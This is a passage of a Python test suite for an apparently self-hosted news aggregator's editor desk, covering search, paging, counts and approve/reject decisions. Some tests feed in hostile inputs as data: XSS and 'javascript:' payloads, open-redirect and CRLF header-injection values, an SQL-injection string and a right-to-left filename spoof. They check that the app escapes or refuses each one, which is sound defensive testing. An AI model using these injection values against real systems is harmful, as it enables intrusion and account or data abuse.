    assert "<script>alert(1)" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<img src=x" not in page and "&lt;img src=x onerror=alert(2)&gt;" in page
    shown = re.search(r'<td class="error">(.*?)</td>', page)[1]
    assert len(html_unescape(shown)) == 200


def html_unescape(text):
    return html.unescape(text)


@both
def test_the_page_refreshes_itself_only_while_posts_are_processing(web):
    conn = web.db.conn()
    add_posts(conn, 2)
    assert 'http-equiv="refresh"' not in web.get("/crawlers")[2]
    conn.execute("UPDATE posts SET classified = -1 WHERE id = 1")
    assert 'http-equiv="refresh"' in web.get("/crawlers")[2]
    conn.execute("UPDATE posts SET classified = 1 WHERE id = 1")
    assert 'http-equiv="refresh"' not in web.get("/crawlers")[2]


@both
def test_the_crawlers_page_shows_rss_state_post_count_and_last_run(web, home, server):
    server.feed("/feed", rss(items(4, host=server.url)))
    write_sources(home / "sources.yaml", [rss_source("lwn", server.url + "/feed")])
    vesti.sync_sources(web.db.conn(), vesti.load_registry(str(home / "sources.yaml")))
    crawl(web.settings, web.db)
    row = re.search(r'<tr id="source-lwn">.*?</tr>', web.get("/crawlers")[2])[0]
    assert "&quot;v1&quot;" in row and "Mon, 30 Nov 2026 10:00:00 GMT" in row
    assert "<td>4</td>" in row and "cli: ok, +4" in row


def test_a_malformed_but_readable_feed_shows_its_warning_in_grey(web, home, server):
    server.feed("/feed", rss(items(2, host=server.url))[:-len(b"</channel></rss>")])
    write_sources(home / "sources.yaml", [rss_source("lwn", server.url + "/feed")])
    vesti.sync_sources(web.db.conn(), vesti.load_registry(str(home / "sources.yaml")))
    crawl(web.settings, web.db)
    assert source_row(web.db, "lwn")["last_error"] is None and len(posts_of(web.db, "lwn")) == 2
    cell = re.search(r'<tr id="source-lwn">.*?<td class="error">(.*?)</td>',
                     web.get("/crawlers")[2])[1]
    assert cell.startswith('<span class="muted">malformed feed, 2 entries kept: ')
    crawl(web.settings, web.db)                        # 304: the same body, the same warning
    assert state_row(web.db, "lwn")["status"] == "not_modified"
    assert state_row(web.db, "lwn")["last_error"].startswith("malformed feed")


def november(minutes):
    """UTC text of so many minutes into 2026-11-01."""
    return vesti.utc_text(1793491200 + 60 * minutes)


def classified_posts(conn, count, direction="linux"):
    add_posts(conn, count, text="<b>bold</b> & more")
    conn.execute("UPDATE posts SET classified = 1, direction = ?, relevance = 7, interest = 4, "
                 "summary = 'Summary <i>' || id", (direction,))
    conn.executemany("UPDATE posts SET published_at = ? WHERE id = ?",
                     [(november(i), i) for (i,) in conn.execute("SELECT id FROM posts")])


@both
def test_a_title_cannot_turn_its_own_direction_on_the_desk(home, server, closing):
    """A feed's "photo \u202egnp.exe" reads on a page as "photo exe.png": the
    controls that turn the direction of the text after them are dropped at
    intake; Arabic, Hebrew and Russian read as they are without them."""
    server.feed("/feed", rss([{"guid": "t1", "link": f"{server.url}/a/photo\u202egnp.exe",
                               "title": "Kernel photo \u202egnp.exe",
                               "text": "The kernel \u2067image\u2069 \u202bשלום\u202c and "
                                       "Linux ядро. " + "More words. " * 10}]))
    s, db = intake(home, [rss_source("lwn", server.url + "/feed", direction="linux")],
                   OLLAMA_URL="", VESTI_WEB_PASSWORD="s3cret")
    crawl(s, db)
    vesti.run_workers(db, s, vesti.load_registry(s.sources), workers=1, quiet=True)
    post = first_post(db.conn())
    assert post["title"] == "Kernel photo gnp.exe"
    assert post["text"].startswith("The kernel image שלום and Linux ядро.")
    page = closing(Web(home, settings=s)).get("/?min=0")[2]
    assert "gnp.exe" in page and not re.search("[\u202a-\u202e\u2066-\u2069]", page)
    # Its link leads where it led, but reads as it is, on the page and in a message.
    assert post["url"] == f"{server.url}/a/photo%E2%80%AEgnp.exe"
    message = vesti.post_message({**dict(post), "url": f"{server.url}/a/photo\u202egnp.exe",
                                  "source": "LWN", "direction": "linux"})
    assert "photo%E2%80%AEgnp.exe" in message and not re.search("[\u202a-\u202e]", message)


def test_the_desk_is_newest_first_escaped_and_keyset_paged(web):
    conn = web.db.conn()
    classified_posts(conn, 60)
    add_posts(conn, 3, start=100)                             # pending: not candidates
    status, _, page = web.get("/")
    assert status == 200
    ids = [int(i) for i in re.findall(r'<article class="post" id="post-(\d+)"', page)]
    assert ids == list(range(60, 10, -1))                     # 50 per page, newest first
    assert "Summary &lt;i&gt;60" in page and "relevance <b>7</b>" in page
    older = html.unescape(re.search(r'<a href="([^"]+)" rel="next">older →</a>', page)[1])
    assert "after=" in older and "page=" not in older
    second = web.get(older)[2]
    assert [int(i) for i in re.findall(r'id="post-(\d+)"', second)] == list(range(10, 0, -1))
    assert 'rel="next"' not in second


def test_only_web_links_are_clickable_and_a_huge_page_number_is_harmless(web):
    conn = web.db.conn()
    classified_posts(conn, 2)
    conn.execute("UPDATE posts SET url = 'javascript:alert(1)' WHERE id = 1")
    for junk in ("?page=99999999999999999999", "?after=9~x~99999999999999999999",
                 "?after=%3Cscript%3E", "?min=99&sort=evil&status=%00"):
        assert web.get("/" + junk)[0] == 200
    page = web.get("/")[2]
    assert "javascript:" not in page, re.findall(r".{80}javascript:.{40}", page)
    assert 'href="http://x/1"' in page           # post 2's link


@both
def test_candidates_filter_by_direction(web):
    conn = web.db.conn()
    classified_posts(conn, 3)
    conn.execute("UPDATE posts SET direction = NULL WHERE id = 2")
    page = web.get("/?direction=linux")[2]
    assert re.findall(r'id="post-(\d+)"', page) == ["3", "1"]


@both
def test_an_editor_approves_and_rejects_candidates(web):
    conn = web.db.conn()
    classified_posts(conn, 2)
    status, headers, _ = web.post("/posts/2/status", {"token": web.token(), "status": "approved",
                                                      "back": "/?direction=linux"})
    assert status == 303 and headers["Location"] == "/?direction=linux&decided=2#post-2"
    web.post("/posts/1/status", {"token": web.token(), "status": "rejected",
                                 "back": "//evil.example/"})
    assert statuses(conn) == \
        {1: "rejected", 2: "approved"}
    assert re.findall(r'id="post-(\d+)"', web.get("/?status=approved")[2]) == ["2"]
    for back in ("/x\r\nSet-Cookie: injected=1", "/\\evil.example", "https://evil.example/"):
        status, headers, _ = web.post("/posts/1/status", {"token": web.token(), "status": "new",
                                                          "back": back})
        assert status == 303 and headers["Location"] == "/?decided=1#post-1"
        assert "Set-Cookie" not in headers
    assert web.post("/posts/1/status", {"token": "x", "status": "approved"})[0] == 403
    assert web.post("/posts/1/status", {"token": web.token(), "status": "published"})[0] == 400


# Web pages: the editor's desk -------------------------------------------------

def desk_post(conn, source_id, k, relevance=7, interest=4, direction="linux", status="new",
              title=None, text=None, minute=None):
    """A classified post, as a worker leaves it."""
    return conn.execute(
        "INSERT INTO posts (source_id, external_id, url, title, text, classified, status, "
        "direction, relevance, interest, summary, published_at, keywords) "
        "VALUES (?, ?, ?, ?, ?, 1, ?, ?, ?, ?, ?, ?, ?) RETURNING id",
        (source_id, f"e{k}", f"http://x/{k}", title or f"Post {k}", text or f"Body of post {k}.",
         status, direction, relevance, interest, f"Summary {k}",
         november(k if minute is None else minute), "linux, kernel")).fetchone()[0]


def card_ids(page):
    return [int(i) for i in re.findall(r'<article class="post" id="post-(\d+)"', page)]


def facet(page, block, label):
    """The count beside a filter link: block is 'directions' or 'statuses'."""
    links = re.search(rf'<p class="facets[^"]*" id="{block}">(.*?)</p>', page)[1]
    return int(re.search(rf'>{re.escape(label)}</a> <span class="muted">(\d+)</span>', links)[1])


def lwn(web):
    return source_row(web.db, "lwn")["id"]


@both
def test_the_default_desk_hides_what_is_decided_or_not_relevant(web):
    conn = web.db.conn()
    relevant = desk_post(conn, lwn(web), 1, relevance=7)
    desk_post(conn, lwn(web), 2, relevance=0, direction=None)
    desk_post(conn, lwn(web), 3, relevance=2)
    desk_post(conn, lwn(web), 4, relevance=9, status="approved")
    page = web.get("/")[2]
    assert card_ids(page) == [relevant]
    assert "2 less relevant posts are hidden." in page
    assert card_ids(web.get("/?min=0")[2]) == [3, 2, 1]
    assert card_ids(web.get("/?status=any")[2]) == [4, 1]
    assert card_ids(web.get("/?status=approved&min=0")[2]) == [4]


@both
def test_filters_show_counts_under_the_other_filters(web):
    conn = web.db.conn()
    other = conn.execute("INSERT INTO sources (slug, name, url) VALUES "
                         "('orbit', 'Orbit news', 'http://o/') RETURNING id").fetchone()[0]
    for k in range(1, 6):
        desk_post(conn, lwn(web), k, direction="linux")
    for k in range(6, 9):
        desk_post(conn, other, k, direction="space")
    desk_post(conn, other, 9, direction="space", status="approved")
    desk_post(conn, other, 10, direction=None, relevance=0)
    page = web.get("/")[2]
    assert facet(page, "directions", "Linux") == 5 and facet(page, "directions", "Space") == 3
    assert facet(page, "directions", "all directions") == 8
    assert facet(page, "statuses", "to decide") == 8 and facet(page, "statuses", "approved") == 1
    page = web.get("/?direction=space")[2]
    assert card_ids(page) == [8, 7, 6]
    assert facet(page, "statuses", "to decide") == 3 and facet(page, "statuses", "approved") == 1
    assert facet(page, "directions", "Linux") == 5          # the direction's own filter is off
    page = web.get("/?source=orbit&min=0")[2]
    assert card_ids(page) == [10, 8, 7, 6]
    assert facet(page, "directions", "no direction") == 1 and facet(page, "directions", "Linux") == 0
    conn.execute("UPDATE posts SET status = 'rejected' WHERE id = 6")
    assert facet(web.get("/?direction=space")[2], "statuses", "rejected") == 1


@both
def test_a_nul_byte_in_the_desk_query_is_a_page_not_a_server_error(web):
    """A query PostgreSQL's text cannot hold is looked for without its NUL."""
    desk_post(web.db.conn(), lwn(web), 1, title="Kernel news")
    for query in ("source=lw%00n", "after=5~2026-11-30%00~3", "q=ker%00nel", "q=%00",
                  "direction=li%00nux", "status=new%00", "min=3%00", "sort=%00", "story=1%00",
                  "decided=%001", "lang=r%00u", "source=lwn&q=Kernel%00"):
        status, _, page = web.get(f"/?{query}")
        assert status in (200, 400) and "Traceback" not in page, (query, status, page[-500:])
    assert card_ids(web.get("/?source=lwn&q=Kernel%00")[2]) == [1]
    for path in ("/crawlers?lang=%00", "/approved.json?x=%00"):
        assert web.get(path)[0] == 200, path
    status, _, body = web.get("/approved.atom?direction=%00")
    assert status == 400 and body.startswith("direction: ") and "Traceback" not in body


def searched(conn, word):
    return [r[0] for r in conn.execute(
        "SELECT rowid FROM posts_fts WHERE posts_fts MATCH ? ORDER BY rowid", (word,))]


def counted(conn):
    return {(r[0], r[1]): r[2] for r in conn.execute(
        "SELECT status, relevance, sum(n) FROM post_counts GROUP BY status, relevance") if r[2]}


@pytest.mark.skipif(not vesti.FTS5, reason="this Python's SQLite has no FTS5")
def test_stored_edited_and_deleted_posts_keep_search_and_counts_right(tmp_path):
    conn = vesti.Database(str(tmp_path / "v.db")).conn()
    conn.execute("INSERT INTO sources (slug, url) VALUES ('a', 'http://a/')")
    text = "A quokka was seen near the river bank this morning by many walkers. "
    assert vesti.store_posts(conn, 1, None, [draft(f"http://a.com/{k}", text * k) for k in (1, 2)]) == 2
    assert searched(conn, "quokka") == []                 # taken in later, many at once
    vesti.catch_up_index(conn)
    assert searched(conn, "quokka") == [1, 2]
    conn.execute("UPDATE posts SET text = 'A wombat instead.', classified = 1, relevance = 5 "
                 "WHERE id = 1")
    assert searched(conn, "quokka") == [2] and searched(conn, "wombat") == [1]
    assert counted(conn) == {("new", 5): 1}
    conn.execute("DELETE FROM posts WHERE id = 2")        # by hand: the newest post
    assert vesti.store_posts(conn, 1, None, [draft("http://a.com/3", "A platypus swam by. " * 3)]) == 1
    assert conn.execute("SELECT max(id) FROM posts").fetchone()[0] == 2   # its id, handed out again
    vesti.catch_up_index(conn)
    assert searched(conn, "quokka") == [] and searched(conn, "platypus") == [2]
    conn.execute("INSERT INTO posts (source_id, text, classified, relevance, status) "
                 "VALUES (1, 'An echidna, by hand.', 1, 5, 'approved')")
    vesti.catch_up_index(conn)
    assert searched(conn, "echidna") == [3]
    assert counted(conn) == {("new", 5): 1, ("approved", 5): 1}
    conn.execute("INSERT INTO posts_fts (posts_fts) VALUES ('integrity-check')")


def counts_match_posts(conn):
    """The desk's count tables say what counting the posts says: every post
    of a source, and a story once overall."""
    def rows(sql):
        return {tuple(r[:-1]): r[-1] for r in conn.execute(sql)}
    columns = ("status, coalesce(direction, ''), coalesce(relevance, 0), "
               f"CASE WHEN likely IS NULL THEN -1 WHEN likely >= {vesti.LIKELY_HIGH} THEN 2 "
               f"WHEN likely >= {vesti.LIKELY_LOW} THEN 1 ELSE 0 END")
    by_source = rows(f"SELECT source_id, {columns}, count(*) FROM posts WHERE classified = 1 "
                     f"GROUP BY 1, 2, 3, 4, 5")
    cards = rows(f"SELECT {columns}, count(*) FROM posts WHERE classified = 1 "
                 f"AND (story_id IS NULL OR story_id = id) GROUP BY 1, 2, 3, 4")
    return rows("SELECT * FROM source_post_counts WHERE n != 0") == by_source and \
        rows("SELECT * FROM post_counts WHERE n != 0") == cards


@both
def test_counts_follow_the_worker_decisions_and_a_new_direction(home, server):
    texts = ["The Linux kernel is out.", "A rocket reached orbit.", "Kernel and rocket news.",
             "Gardening with roses.", "The sea was calm; a ship sailed."]
    server.feed("/feed", rss([{"guid": f"g{k}", "link": f"{server.url}/p/{k}", "title": t,
                               "text": t + " More words here. " * 5} for k, t in enumerate(texts)]))
    s, db = intake(home, [rss_source("news", server.url + "/feed")])
    crawl(s, db)
    vesti.run_workers(db, s, vesti.load_registry(s.sources), workers=2, quiet=True)
    conn = db.conn()
    assert conn.execute("SELECT count(*) FROM posts WHERE classified = 1").fetchone()[0] == 5
    assert counts_match_posts(conn)
    assert vesti.set_decisions(conn, [1, 2, 999], "approved", "editor") == 2
    assert vesti.set_decision(conn, 3, "rejected", "editor") == 1
    assert counts_match_posts(conn)
    assert source_row(db, "news")["approved"] == 2          # the source's figure follows
    text = (home / "sources.yaml").read_text().replace(
        "sources:", "  sea:\n    title: Sea\n    keywords: [sea, ship]\nsources:")
    (home / "sources.yaml").write_text(text)
    registry = vesti.load_registry(s.sources)
    vesti.sync_sources(db.conn(), registry)
    db.conn().execute("UPDATE posts SET classified = 0")          # classified again, by hand
    vesti.run_workers(db, s, registry, workers=2, quiet=True)
    assert db.conn().execute("SELECT direction FROM posts WHERE title = ?",
                             (texts[4],)).fetchone()[0] == "sea"
    assert counts_match_posts(db.conn())
    db.conn().execute("UPDATE post_counts SET n = n + 7 WHERE direction = 'sea'")   # a drift
    vesti.recount_posts(db.conn())
    assert counts_match_posts(db.conn())


@pytest.mark.skipif(not vesti.FTS5, reason="this Python's SQLite has no FTS5")
def test_a_database_of_the_previous_version_keeps_its_counts_and_search(tmp_path):
    """Its triggers counted and indexed each post as it was stored; the
    batches take over from there without counting anything twice."""
    path = tmp_path / "old.db"
    old = sqlite3.connect(path)
    old.executescript((ROOT / "tests" / "fixtures" / "schema-2026-11.sql").read_text())
    old.execute("INSERT INTO sources (slug, url) VALUES ('a', 'http://a/')")
    for k in range(3):
        old.execute("INSERT INTO posts (source_id, text, classified, relevance) "
                    "VALUES (1, ?, 1, 5)", (f"Quokka number {k}",))
    old.execute("INSERT INTO posts (source_id, text) VALUES (1, 'A pending quokka')")
    old.commit()
    old.close()
    conn = vesti.Database(str(path)).conn()
    assert counted(conn) == {("new", 5): 3}
    assert searched(conn, "quokka") == [1, 2, 3, 4]
    conn.execute("UPDATE posts SET classified = 1, relevance = 5 WHERE id = 4")
    conn.execute("UPDATE posts SET status = 'approved' WHERE id = 1")
    assert counted(conn) == {("new", 5): 3, ("approved", 5): 1}
    assert vesti.store_posts(conn, 1, None, [draft("http://a.com/5", "One more quokka. " * 5)]) == 1
    vesti.catch_up_index(conn)
    assert searched(conn, "quokka") == [1, 2, 3, 4, 5]
    conn.execute("INSERT INTO posts_fts (posts_fts) VALUES ('integrity-check')")
    names = {r[0] for r in conn.execute("SELECT name FROM sqlite_master")}
    assert not names & {"posts_fts_insert", "posts_counted", "posts_queue", "posts_candidates"}


@pytest.mark.skipif(not vesti.FTS5, reason="this Python's SQLite has no FTS5")
def test_a_database_of_the_last_version_counts_by_the_rule_of_this_one(tmp_path):
    """Its count triggers were worded otherwise: they are made again as this
    version words them, and its posts counted again under them."""
    path = tmp_path / "old.db"
    old = sqlite3.connect(path)
    old.executescript((ROOT / "tests" / "fixtures" / "schema-2026-12.sql").read_text())
    old.execute("INSERT INTO sources (slug, url) VALUES ('a', 'http://a/')")
    old.executemany("INSERT INTO posts (source_id, text, relevance, story_id) VALUES (1, ?, 5, ?)",
                    [("A quokka", None), ("Another quokka", None), ("A copy of it", 2)])
    old.execute("INSERT INTO posts_fts (rowid, title, text) SELECT id, title, text FROM posts")
    old.execute("INSERT INTO meta (key, value) VALUES ('indexed_to', '3')")
    old.execute("UPDATE posts SET classified = 1")      # no rows ready: the old rule missed them
    old.commit()
    old.close()
    conn = vesti.Database(str(path)).conn()
    triggers = dict(conn.execute("SELECT name, sql FROM sqlite_master WHERE type = 'trigger'"))
    for event in vesti.COUNT_EVENTS:
        made = next(s for s in vesti.schema_statements() if event.trigger in s.split()[:6])
        assert triggers[event.trigger] == made.replace(" IF NOT EXISTS", "", 1)
    assert counts_match_posts(conn) and counted(conn) == {("new", 5): 2}
    conn.execute("UPDATE posts SET status = 'approved' WHERE id = 1")
    conn.execute("UPDATE posts SET story_id = 1 WHERE id = 2")
    conn.execute("DELETE FROM posts WHERE id = 3")
    assert counts_match_posts(conn) and counted(conn) == {("approved", 5): 1}


@postgres_only
@pytest.mark.parametrize("changed", ["vesti_count_posts", "posts_counts"])
def test_a_postgresql_database_counted_by_another_rule_is_counted_again(home, backend, changed):
    """Its count function or trigger was worded otherwise (the chance that
    lifts a post over the floor, say): it is made again as this version
    words it, and its posts counted again under it."""
    s, db = intake(home, [])
    conn = db.conn()
    conn.execute("INSERT INTO sources (slug, url) VALUES ('a', 'http://a/')")
    for k, likely in enumerate((0.9, 0.7, 0.5, 0.2), start=1):
        desk_post(conn, 1, k, relevance=5)
        conn.execute("UPDATE posts SET likely = ? WHERE id = ?", (likely, k))
    vesti.catch_up_index(conn)
    assert counts_match_posts(conn)
    with vesti.transaction(conn):       # as an older version left it
        conn.execute("UPDATE post_counts SET n = 0")
        conn.execute("UPDATE post_counts SET n = 4 WHERE status = 'new' AND liked = 1")
        conn.execute("UPDATE meta SET value = 'older' WHERE key IN ('pg_schema', ?)",
                     (f"pg_ddl:{changed}",))
    db.close()
    conn = vesti.Database(backend).conn()
    assert counts_match_posts(conn)


@both
def test_search_finds_words_in_any_case_in_russian_and_english(web):
    conn = web.db.conn()
    desk_post(conn, lwn(web), 1, title="Новое ядро Linux", text="Вышло ядро с планировщиком.")
    desk_post(conn, lwn(web), 2, title="Kernel release", text="The KERNEL team shipped it.")
    desk_post(conn, lwn(web), 3, title="Rocket launch", text="An orbit was reached.")
    assert card_ids(web.get("/?q=" + urllib.parse.quote("ЯДРО"))[2]) == [1]
    assert card_ids(web.get("/?q=kernel")[2]) == [2]
    assert card_ids(web.get("/?q=Linux")[2]) == [1]
    assert card_ids(web.get("/?q=" + urllib.parse.quote("планировщик*"))[2]) == [1]  # a word's beginning
    assert card_ids(web.get("/?q=" + urllib.parse.quote("планировщик"))[2]) == []
    page = web.get("/?q=nothing-like-this")[2]
    assert card_ids(page) == [] and "No posts match these filters." in page
    for hostile in ('"', "a AND", "NEAR(", "*", "-x", "'; DROP TABLE posts; --"):
        assert web.get("/?q=" + urllib.parse.quote(hostile))[0] == 200
    conn.execute("UPDATE posts SET title = 'Orbit reached' WHERE id = 3")
    assert card_ids(web.get("/?q=orbit")[2]) == [3]              # the index follows edits


def test_without_fts5_search_falls_back_to_like(web, monkeypatch):
    monkeypatch.setattr(vesti, "FTS5", False)
    conn = web.db.conn()
    desk_post(conn, lwn(web), 1, title="Новое ядро Linux", text="100% готово")
    desk_post(conn, lwn(web), 2, title="Kernel release", text="The KERNEL team shipped it.")
    assert card_ids(web.get("/?q=kernel")[2]) == [2]
    assert card_ids(web.get("/?q=" + urllib.parse.quote("ядро"))[2]) == [1]
    assert card_ids(web.get("/?sort=relevance&q=kernel")[2]) == [2]
    assert card_ids(web.get("/?q=" + urllib.parse.quote("100%"))[2]) == [1]
    assert card_ids(web.get("/?q=" + urllib.parse.quote("_%"))[2]) == []


def walk_desk(web, path):
    """The ids of every card of a desk view, page after page."""
    seen = []
    while path:
        page = web.get(path)[2]
        seen += card_ids(page)
        found = re.search(r'<a href="([^"]+)" rel="next">', page)
        path = html.unescape(found[1]) if found else None
    return seen


@both
def test_a_search_newest_first_is_in_the_desks_own_order(web):
    conn = web.db.conn()
    kernel = [desk_post(conn, lwn(web), k, minute=k * 23 % 61, title=f"Kernel news {k}")
              for k in range(1, 56)]                     # ids and dates disagree
    for k in range(56, 62):
        desk_post(conn, lwn(web), k, minute=k * 23 % 61, title=f"Rocket launch {k}")
    assert walk_desk(web, "/?q=kernel") == [i for i in walk_desk(web, "/") if i in kernel]


@pytest.mark.slow
@both
def test_a_search_of_a_common_word_reads_about_a_page_and_misses_nothing(web, monkeypatch):
    """Stored as a crawl stores them: fetch times follow the ids, each post
    dated up to ten minutes before its fetch, and every fifth one a feed's
    backlog, dated days before. The search stops reading matches early and
    still pages through every match in date order."""
    conn = web.db.conn()
    start = vesti.parse_utc("2026-11-30 00:00:00")
    for k in range(600):
        fetched = start + 120 * k
        published = fetched - (86400 * (k % 7 + 1) if k % 5 == 0 else 60 * (k * 37 % 11))
        post = desk_post(conn, lwn(web), k, title=f"Kernel news {k}")
        conn.execute("UPDATE posts SET fetched_at = ?, published_at = ? WHERE id = ?",
                     (vesti.utc_text(fetched), vesti.utc_text(published), post))
    assert walk_desk(web, "/?q=kernel") == walk_desk(web, "/")
    counting = CountingConnection(conn)
    page = vesti.desk_posts(counting, vesti.DeskQuery(q="kernel"))
    assert [p.id for p in page] == card_ids(web.get("/")[2]) + [page[-1].id]
    assert counting.matches_read < 200                   # of the 600 matches
    monkeypatch.setattr(vesti.DeskQuery, "walk", 100)    # deeper pages sort every match
    assert walk_desk(web, "/?q=kernel") == walk_desk(web, "/")


class CountingConnection:
    """A connection that counts the search matches a query reads (those
    walked newest collected first)."""

    class Rows(list):
        def fetchall(self):
            return self

        def fetchone(self):
            return self[0] if self else None

    def __init__(self, conn):
        self.conn, self.dialect, self.matches_read = conn, conn.dialect, 0

    def execute(self, sql, params=()):
        rows = self.Rows(self.conn.execute(sql, params).fetchall())
        if re.search(r"(rowid|post_id|p\.id) DESC LIMIT", sql):
            self.matches_read += len(rows)
        return rows


@both
def test_paging_by_position_covers_every_post_once_in_every_order(web):
    conn = web.db.conn()
    for k in range(1, 121):
        desk_post(conn, lwn(web), k, relevance=3 + k % 8, interest=k % 5, minute=k // 3,
                  status=vesti.DECISIONS[k % 7 % 3])
    for sort, status in itertools.product(("newest", "relevance", "interest"), ("new", "any")):
        ids = [r[0] for r in conn.execute(
            "SELECT id FROM posts WHERE ? IN (status, 'any') ORDER BY id", (status,))]
        seen, path = [], f"/?sort={sort}&status={status}"
        while path:
            page = web.get(path)[2]
            seen += card_ids(page)
            found = re.search(r'<a href="([^"]+)" rel="next">', page)
            path = html.unescape(found[1]) if found else None
        assert sorted(seen) == ids, (sort, status)
        rows = stored_posts(conn)
        key = {"newest": lambda i: (rows[i]["published_at"], i),
               "relevance": lambda i: (rows[i]["relevance"], rows[i]["published_at"], i),
               "interest": lambda i: (rows[i]["interest"], rows[i]["published_at"], i)}[sort]
        assert seen == sorted(seen, key=key, reverse=True), sort


def pager_links(page):
    """The words of the links to the first and the next page."""
    return re.findall(r'<a href="[^"]*"(?: rel="next")?>([←\w][^<]*)</a>',
                      re.search(r"<nav class=pages>(.*?)</nav>", page)[1])


def test_only_newest_first_pages_lead_to_older_posts(web):
    conn = web.db.conn()
    for k in range(1, 56):
        desk_post(conn, lwn(web), k, relevance=3 + k % 8, interest=k % 5)
    page = web.get("/")[2]
    assert pager_links(page) == ["older →"]
    second = html.unescape(re.search(r'<a href="([^"]+)" rel="next">', page)[1])
    assert pager_links(web.get(second)[2]) == ["← newest"]
    assert pager_links(web.get("/?lang=ru")[2]) == ["старше →"]
    for sort in ("relevance", "interest"):
        page = web.get(f"/?sort={sort}")[2]
        assert pager_links(page) == ["next →"], sort
        second = html.unescape(re.search(r'<a href="([^"]+)" rel="next">', page)[1])
        assert pager_links(web.get(second)[2]) == ["← first"], sort
        assert pager_links(web.get(f"/?sort={sort}&lang=ru")[2]) == ["дальше →"], sort
        assert pager_links(web.get(second + "&lang=ru")[2]) == ["← в начало"], sort


@both
def test_a_decision_with_json_answers_json_and_records_who_and_when(web):
    conn = web.db.conn()
    post = desk_post(conn, lwn(web), 1)
    status, headers, body = web.post(f"/posts/{post}/status",
                                     {"token": web.token(), "status": "approved"},
                                     headers={"Accept": "application/json"})
    assert status == 200 and json.loads(body) == {"id": post, "status": "approved"}
    row = first_post(conn)
    assert row["status"] == "approved" and row["decided_by"] == "admin"
    assert row["decided_at"] >= vesti.utc_text(time.time() - 60)
    assert web.post("/posts/424242/status", {"token": web.token(), "status": "approved"})[0] == 404


@both
def test_bulk_decisions_reject_every_card_shown_once_confirmed(web):
    conn = web.db.conn()
    ids = [desk_post(conn, lwn(web), k) for k in range(1, 6)]
    conn.execute("UPDATE posts SET title = '<b>Bold</b> news' WHERE id = ?", (ids[0],))
    page = web.get("/")[2]
    form = re.search(r'<form class="actions bulk".*?</form>', page)[0]
    shown = re.search(r'name="ids" value="([^"]+)"', form)[1]
    assert sorted(int(i) for i in shown.split(",")) == ids
    assert page.index('class="actions bulk"') > page.index(f'id="post-{ids[0]}"')  # under the cards
    # Without JavaScript the page's button asks first, on a page of its own.
    sent = dict(re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)">', form))
    assert sent["ask"] == "1"
    status, _, asked = web.post("/posts/status", {**sent, "status": "rejected"})
    assert status == 200 and "Reject these 5 posts?" in asked
    assert "&lt;b&gt;Bold&lt;/b&gt; news" in asked and "Post 5" in asked and "<b>Bold" not in asked
    fields = dict(re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)">', asked))
    assert fields == {"token": web.token(), "ids": shown, "status": "rejected",
                      "back": sent["back"], "wording": sent["wording"], "confirmed": "1"}
    assert set(statuses(conn).values()) == {"new"}
    status, headers, _ = web.post("/posts/status", fields)
    assert status == 303 and headers["Location"] == sent["back"]
    assert set(statuses(conn).values()) == {"rejected"}
    assert card_ids(web.get("/")[2]) == []
    decided = web.get("/?status=rejected")[2]        # only posts still to decide go at once
    assert len(card_ids(decided)) == 5 and 'class="actions bulk"' not in decided
    # A script's post (not the page's form) decides at once, as it always did.
    status, _, _ = web.post("/posts/status", {"token": web.token(), "ids": "3,4", "status": "new"})
    assert status == 303
    assert list(statuses(conn).values()) == ["rejected"] * 2 + ["new"] * 2 + ["rejected"]
    status, _, body = web.post("/posts/status", {"token": web.token(), "ids": "1,2,999",
                                                 "status": "new"},
                               headers={"Accept": "application/json"})
    assert status == 200 and json.loads(body)["changed"] == 2
    assert web.post("/posts/status", {"token": web.token(), "ids": "", "status": "new"})[0] == 400
    assert web.post("/posts/status", {"token": "forged", "ids": "1", "status": "new"})[0] == 403


@both
def test_an_undo_takes_back_who_decided_and_when(web):
    conn = web.db.conn()
    for k in range(1, 6):
        desk_post(conn, lwn(web), k)
    conn.execute("UPDATE posts SET story_id = 4 WHERE id IN (4, 5)")      # a story of two
    web.post("/posts/1/status", {"token": web.token(), "status": "approved"})
    web.post("/posts/4/status", {"token": web.token(), "status": "approved"})
    web.post("/posts/status", {"token": web.token(), "ids": "2,3", "status": "rejected"})
    assert [decision_of(conn, i) for i in post_ids(conn)] == \
        [("approved", "admin"), ("rejected", "admin"), ("rejected", "admin"),
         ("approved", "admin"), ("approved", "admin")]
    web.post("/posts/1/status", {"token": web.token(), "status": "new"})
    web.post("/posts/4/status", {"token": web.token(), "status": "new"})
    web.post("/posts/status", {"token": web.token(), "ids": "2,3", "status": "new"})
    undone = conn.execute("SELECT status, decided_at, decided_by FROM posts").fetchall()
    assert [tuple(r) for r in undone] == [("new", None, None)] * 5
    exported = list(csv.DictReader(io.StringIO(vesti.csv_export(vesti.decided_posts(conn, "any")))))
    assert {(r["status"], r["decided_at"], r["decided_by"]) for r in exported} == {("new", "", "")}


@both
def test_a_page_left_open_across_a_restart_still_decides(web, home, closing):
    conn = web.db.conn()
    post = desk_post(conn, lwn(web), 1)
    token_before = re.search(r'name="token" value="([0-9a-f]+)"', web.get("/")[2])[1]
    web.close()
    restarted = closing(Web(home))      # a new server process on the same database
    status, headers, _ = restarted.post(f"/posts/{post}/status",
                                        {"token": token_before, "status": "approved"})
    assert status == 303 and headers["Location"].endswith(f"#post-{post}")
    assert conn.execute("SELECT status FROM posts").fetchone()[0] == "approved"
    changed = closing(Web(home, password="n3w"))     # restarted with another password: old forms refused
    status, _, _ = changed.post(f"/posts/{post}/status", {"token": token_before, "status": "new"})
    assert status == 403 and changed.token() != token_before


def hidden_fields(form):
    return {name: html.unescape(value) for name, value in
            re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)">', form)}


CHANGED = "this post changed since your page was loaded; reload to see it"


@both
def test_a_desk_loaded_before_an_edit_does_not_decide_the_edited_words(home, closing):
    write_sources(home / "sources.yaml", [{"slug": "chan", "crawler": "telegram",
                                           "url": "https://t.me/linuxnews", "direction": "linux"}])
    web = closing(Web(home, settings=make_settings(home, VESTI_WEB_PASSWORD="s3cret")))
    s, db = web.settings, web.db
    posted = recent(60)
    other = "Linux 7.1 ships a new file system for older laptops, tested for a year."
    fake = FakeTelegram([tg.Message(id=k, peer_id=tg.PeerChannel(1001), date=posted,
                                    message=text) for k, text in ((1, HARMLESS), (2, other))])
    crawl_tg(s, db, fake)
    vesti.run_workers(db, s, web.registry, workers=1, quiet=True)
    page = web.get("/")[2]                          # the desk, left open overnight
    card, bulk = hidden_fields(card_of(page, 1)), hidden_fields(
